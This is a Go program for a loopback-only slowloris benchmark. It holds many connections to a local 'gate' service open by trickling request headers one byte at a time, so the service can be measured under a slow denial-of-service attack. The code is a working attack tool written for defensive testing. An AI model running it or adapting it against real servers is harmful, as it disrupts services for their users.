// Command slowloris holds many connections to a gate open by sending a
// request's headers one byte at a time, reconnecting whenever the gate
// closes one: the attack bench/slowloris.sh measures normal buyers under.
//
//	slowloris -target 127.0.0.1:18080 -n 2000 -every 1s -for 30s
//
// Only loopback targets are accepted.
package main

import (
	"flag"
	"fmt"
	"log"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

func main() {
	target := flag.String("target", "127.0.0.1:18080", "gate address (loopback only)")
	n := flag.Int("n", 2000, "connections held at once")
	every := flag.Duration("every", time.Second, "pause between two bytes on a connection")
	dur := flag.Duration("for", 30*time.Second, "how long the attack lasts")
	flag.Parse()
	host, _, err := net.SplitHostPort(*target)
	if err != nil || !net.ParseIP(host).IsLoopback() {
		log.Fatalf("target %q: loopback addresses only", *target)
	}
	header := "POST /v1/sales/s1/orders HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" +
		"X-Padding: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	end := time.Now().Add(*dur)
	var (
		dials, cut atomic.Int64
		wg         sync.WaitGroup
	)
	for i := range *n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// Spread the connections' bytes over the interval.
			time.Sleep(time.Duration(i) * *every / time.Duration(*n))
			for time.Now().Before(end) {
				c, err := net.DialTimeout("tcp", *target, 5*time.Second)
				dials.Add(1)
				if err != nil {
					time.Sleep(*every)
					continue
				}
				for j := 0; time.Now().Before(end); j = (j + 1) % len(header) {
					if _, err := c.Write([]byte{header[j]}); err != nil {
						cut.Add(1)
						break
					}
					time.Sleep(*every)
				}
				c.Close()
			}
		}()
	}
	wg.Wait()
	fmt.Printf("slowloris: %d connections held for %v, %d dials, %d cut by the gate\n", *n, *dur, dials.Load(), cut.Load())
}
